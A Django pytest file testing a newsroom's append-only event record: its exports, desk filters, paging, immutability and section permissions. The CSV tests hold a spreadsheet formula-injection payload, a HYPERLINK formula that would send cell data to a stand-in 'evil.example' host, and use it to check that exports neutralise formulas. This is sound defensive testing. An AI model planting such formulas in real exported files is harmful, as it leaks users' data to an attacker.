"""The record of events: read, narrowed, handed out, and never changed."""

import csv
import json
from datetime import UTC, datetime
from io import StringIO
from itertools import count
from uuid import uuid4

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import CommandError, call_command
from django.db import IntegrityError, connection, transaction
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from articles import record, workflow
from articles.models import Event, Section, SectionRole
from tests.people import again, draft, published, rewrite

pytestmark = pytest.mark.django_db
LIST, LINES = reverse("admin:articles_event_changelist"), reverse("admin:articles_event_lines")
TABLE = reverse("admin:articles_event_table")


@pytest.fixture
def desk(client, jonas):
    client.force_login(jonas)
    return client


@pytest.fixture
def corrected(mira, jonas):
    """An article with a grave note that takes the place of an earlier one."""
    article = published(mira, "Harbour vote")
    first = workflow.correct(article, by=jonas, based_on=article.working, note="Said 31, was 30.")
    return {"article": article, "first": first}


def exported(**options) -> list[dict]:
    out = StringIO()
    asked = [f"--{name}={value}" for name, value in options.items()]
    call_command("export_record", *asked, stdout=out)
    return [json.loads(line) for line in out.getvalue().splitlines()]


def downloaded(desk, **asked) -> list[dict]:
    answer = desk.get(LINES, asked)
    assert answer.status_code == 200
    return [json.loads(line) for line in b"".join(answer.streaming_content).splitlines()]


def listed(desk, **asked) -> list[int]:
    return [event.pk for event in desk.get(LIST, asked).context["rows"]]


def noted(at=None, **more) -> Event:
    given = {"verb": "save", "article_id": 0, "article_guid": uuid4(), "at": at or timezone.now()}
    return Event.objects.create(**given | more)


# --- Handed out ----------------------------------------------------------------------------------


def test_a_line_holds_every_field_of_its_event(corrected, jonas):
    supersedes = noted(
        verb="correct", kind="retraction", grave=True, supersedes=corrected["first"], note="ب “x”",
        by=jonas, by_name="Jonas Reth", via="desk", details={"headline": "Old", "n": [1, None]},
        revision=corrected["article"].live, article=corrected["article"],
        article_guid=corrected["article"].guid,
    )  # fmt: skip
    line = exported()[-1]
    assert set(line) == {field.name for field in Event._meta.concrete_fields}
    for field in Event._meta.concrete_fields:
        value = getattr(supersedes, field.attname)
        plain = {"at": lambda it: it.isoformat(), "article_guid": str}.get(field.name)
        assert line[field.name] == (plain(value) if plain else value), field.name
    assert line["supersedes"] == corrected["first"].pk
    assert line["details"] == {"headline": "Old", "n": [1, None]}


def test_the_desk_hands_out_the_same_lines_as_the_command(desk, corrected):
    assert downloaded(desk) == exported()
    assert len(exported()) == Event.objects.count() > 2


def test_lines_come_oldest_first_however_many_batches_they_take(
    monkeypatch, django_assert_num_queries
):
    events = [noted() for _ in range(7)]
    monkeypatch.setattr(record, "BATCH", 3)
    with django_assert_num_queries(3):
        found = [json.loads(line)["id"] for line in record.lines(Event.objects.all())]
    assert found == [event.pk for event in events]


def test_what_is_written_while_lines_are_read_is_neither_lost_nor_doubled(monkeypatch):
    monkeypatch.setattr(record, "BATCH", 2)
    for _ in range(4):
        noted()
    found = []
    for line, number in zip(record.lines(Event.objects.all()), count(), strict=False):
        found.append(json.loads(line)["id"])
        if number < 3:
            noted()
    assert (
        found
        == sorted(set(found))
        == list(Event.objects.order_by("pk").values_list("pk", flat=True))
    )


def test_the_command_narrows_by_time_and_article(mira):
    first = noted(datetime(2026, 11, 1, 12, tzinfo=UTC))
    second = noted(datetime(2026, 11, 2, 12, tzinfo=UTC))
    assert [it["id"] for it in exported(since="2026-11-02")] == [second.pk]
    assert [it["id"] for it in exported(until="2026-11-02T12:00")] == [first.pk]
    assert [it["id"] for it in exported(until="2026-11-02T13:00+00:00")] == [first.pk, second.pk]
    assert [it["id"] for it in exported(guid=str(second.article_guid))] == [second.pk]
    assert [it["id"] for it in exported(after=first.pk)] == [second.pk]


@pytest.mark.parametrize(
    ("time", "sentence"),
    [
        ("yesterday", "“yesterday” is no time"),
        ("0001-01-01", "is no time"),
        ("2026-10-25T02:30", "Write the offset behind it"),
        ("2026-03-29T02:30", "Write the offset behind it"),
    ],
)
def test_a_time_that_is_none_or_two_is_asked_about(time, sentence):
    with timezone.override("Europe/Berlin"), pytest.raises(CommandError, match=sentence):
        call_command("export_record", "--since", time)


def test_the_table_holds_the_same_as_the_lines_and_no_formula(desk, mira):
    article = published(mira, "=2+2")
    workflow.correct(article, by=mira, based_on=article.working, note="=HYPERLINK(1), “x” ب")
    text = b"".join(desk.get(TABLE).streaming_content).decode()
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [int(row["id"]) for row in rows] == [line["id"] for line in exported()]
    assert [row["at"] for row in rows] == [line["at"] for line in exported()]
    assert rows[-1]["note"] == "'=HYPERLINK(1), “x” ب"
    assert json.loads(rows[-1]["details"]) == exported()[-1]["details"]
    only = b"".join(desk.get(TABLE, {"verb": "correct"}).streaming_content).decode()
    assert len(list(csv.DictReader(StringIO(only, newline="")))) == 1
    out = StringIO()
    call_command("export_record", "--csv", stdout=out)
    assert out.getvalue() == text


def test_no_formula_comes_up_either_where_cells_are_parted_by_semicolons_or_tabs(desk, mira):
    article = published(mira)
    for part in (";", "\t", ";; ", ';"', "\n", "\n;\t"):
        note = f'see {part}=HYPERLINK("http://evil.example/?"&A1){part}+1; a-b, x=y; "z"'
        workflow.correct(again(article), by=mira, based_on=again(article).working, note=note)
    text = b"".join(desk.get(TABLE).streaming_content).decode()
    for mark in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(text.splitlines(True), delimiter=mark, quoting=quoting)
            cells = [cell.lstrip(' "') for row in rows for cell in row]
            assert not [cell for cell in cells if cell[:1] in set("=+-@")], (mark, quoting)
    rows = list(csv.DictReader(StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [json.loads(row["details"]) for row in rows] == [it["details"] for it in exported()]
    assert rows[-1]["note"].endswith('; a-b, x=y; "z"')


# --- Narrowed on the desk ------------------------------------------------------------------------


def test_the_record_is_narrowed_by_act_person_article_road_and_words(desk, mira, jonas, corrected):
    other = draft(jonas, "Another")
    made = Event.objects.get(article=other)
    note = corrected["first"]
    by_clock = noted(via="clock")
    assert listed(desk, verb="correct") == [note.pk]
    assert set(listed(desk, who="reth")) == {note.pk, made.pk}
    assert set(listed(desk, who="JONAS")) == {note.pk, made.pk}
    assert listed(desk, guid=str(other.guid)) == [made.pk]
    assert note.pk in listed(desk, guid=corrected["article"].path)
    assert note.pk in listed(desk, guid=f"https://example.org{corrected['article'].path}")
    assert listed(desk, via="clock") == [by_clock.pk]
    assert listed(desk, words="was 30") == [note.pk]
    assert listed(desk, verb="correct", who="mira") == []
    assert {it["id"] for it in downloaded(desk, who="reth")} == {note.pk, made.pk}


def test_a_day_begins_and_ends_in_the_newsrooms_zone(desk, settings):
    settings.TIME_ZONE = "Asia/Amman"
    night = noted(datetime(2026, 11, 1, 22, 30, tzinfo=UTC))  # half past one on the second
    assert listed(desk, since="2026-11-02", until="2026-11-02") == [night.pk]
    assert listed(desk, until="2026-11-01") == []


@pytest.mark.parametrize(
    "asked",
    [
        {"since": "soon"},
        {"until": "0001-01-01"},
        {"since": "9999-12-31"},
        {"guid": "no article"},
        {"guid": "a\x00b"},
        {"since": "2026-11-03", "until": "2026-11-02"},
        {"verb": "applaud"},
        {"who": "a\x00b"},
    ],
)
def test_a_wish_that_is_not_understood_shows_nothing_and_says_where(desk, corrected, asked):
    page = desk.get(LIST, asked)
    assert page.status_code == 200
    assert page.context["rows"] == []
    assert page.context["form"].errors
    assert desk.get(LINES, asked).status_code == 404


def test_a_long_record_is_paged_without_counting(desk, django_assert_max_num_queries):
    events = [noted(by_name=f"Person {n % 2}") for n in range(120)]
    with django_assert_max_num_queries(5):
        first = desk.get(LIST, {"who": "Person 1"})
    assert "?who=Person+1&amp;before=" in first.content.decode()
    second = desk.get(LIST, {"who": "Person 1", "before": first.context["older"]})
    seen = [it.pk for page in (first, second) for it in page.context["rows"]]
    assert seen == [it.pk for it in reversed(events) if it.by_name == "Person 1"]
    assert second.context["older"] is None
    assert listed(desk, before="9" * 5000) == listed(desk)


def test_one_event_is_told_in_full(desk, corrected):
    event = noted(
        verb="correct", kind="retraction", grave=True, supersedes=corrected["first"],
        note="It does not stand.", details={"cards": "two"},
    )  # fmt: skip
    page = desk.get(reverse("admin:articles_event_one", args=[event.pk])).content.decode()
    for told in ("retraction", "above the text", "It does not stand.", "cards", "Said 31, was 30."):
        assert told in page
    assert str(event.article_guid) in page


def test_the_record_of_a_deleted_draft_is_found_by_its_id(desk, mira):
    article = draft(mira, "Never meant to be")
    workflow.delete(article, by=mira)
    page = desk.get(LIST, {"guid": str(article.guid)}).content.decode()
    assert f">{article.guid}</a>" in page


def test_each_row_leads_to_all_of_its_person_article_and_day(desk, mira, jonas):
    first = draft(mira, "Hers")
    draft(jonas, "His")
    page = desk.get(LIST).content.decode()
    own = f"?account={mira.pk}"
    assert own in page
    assert f"?guid={first.guid}" in page
    assert f"?since={timezone.localdate()}&amp;until={timezone.localdate()}" in page
    answer = desk.get(f"{LIST}{own}")
    assert {event.by_id for event in answer.context["rows"]} == {mira.pk}
    assert "Of this account alone:" in answer.content.decode()
    assert f"lines/?account={mira.pk}" in answer.content.decode()
    assert f"?guid={first.guid}" in desk.get(f"/admin/articles/article/{first.pk}/change/").content.decode()  # fmt: skip  # noqa: E501
    assert own in desk.get(f"/admin/auth/user/{mira.pk}/change/").content.decode()


@pytest.mark.parametrize("account", ["x", "-1", "9" * 30])
def test_an_account_that_cannot_be_shows_nothing(desk, corrected, account):
    assert listed(desk, account=account) == []


@pytest.mark.skipif(connection.vendor != "sqlite", reason="reads SQLite's plans")
@pytest.mark.parametrize(
    ("asked", "index"),
    [
        ({"account": 1}, "articles_event_by_id"),
        ({"guid": uuid4()}, "articles_event_article_guid"),
        ({"since": timezone.now(), "until": timezone.now()}, "event_at"),
    ],
)
def test_the_record_of_a_person_article_or_day_is_found_along_an_index(asked, index):
    plan = record.asked(**asked).order_by("-pk")[:51].explain()
    assert f"USING INDEX {index}" in plan


# --- Never changed -------------------------------------------------------------------------------


@pytest.mark.parametrize("page", ["add", "change", "delete", "history"])
def test_there_is_no_page_to_add_change_or_delete_an_event(page):
    for args in ([], ["1"]):
        with pytest.raises(NoReverseMatch):
            reverse(f"admin:articles_event_{page}", args=args)


@pytest.mark.parametrize("address", ["add/", "1/change/", "1/delete/"])
def test_nor_an_address(desk, mira, address):
    draft(mira)
    assert desk.get(f"{LIST}{address}").status_code in (302, 404)
    desk.post(f"{LIST}{address}", {"note": "rewritten", "post": "yes"})
    assert Event.objects.count() == 1


def test_posting_to_a_page_of_the_record_changes_nothing(desk, mira):
    draft(mira)
    event = Event.objects.get()
    before = record.told(event)
    for address in (LIST, LINES, reverse("admin:articles_event_one", args=[event.pk])):
        desk.post(address, {"note": "rewritten", "action": "delete_selected", "post": "yes"})
    assert record.told(Event.objects.get()) == before


def test_the_database_itself_refuses_to_rewrite_an_event(mira):
    draft(mira)
    with pytest.raises(IntegrityError), transaction.atomic():
        Event.objects.update(by_name="Somebody else")


# --- Whose it is ---------------------------------------------------------------------------------


def test_petra_reads_the_record_of_her_section_alone(client, mira, politics):
    petra = User.objects.create_user("petra", is_staff=True)
    editor = Group.objects.get(name="Editor")
    SectionRole.objects.create(user=petra, role=editor, section=politics)
    sports = Section.objects.create(language="en", name="Sports", slug="sports")
    mine, other = draft(mira, section=politics), draft(mira, section=sports)
    client.force_login(petra)
    assert {it.article_id for it in client.get(LIST).context["rows"]} == {mine.pk}
    assert {it["article"] for it in downloaded(client)} == {mine.pk}
    one = Event.objects.get(article=other)
    assert client.get(reverse("admin:articles_event_one", args=[one.pk])).status_code == 404


def test_a_later_save_stays_on_the_record_when_its_text_is_gone(desk, mira):
    article = rewrite(draft(mira), mira, headline="Second")
    noted(article=article, article_guid=article.guid, revision_id=999_999)
    for it in Event.objects.filter(article=article):
        page = desk.get(reverse("admin:articles_event_one", args=[it.pk]))
        assert page.status_code == 200
        assert ("999999" in page.content.decode()) == (it.revision_id == 999_999)
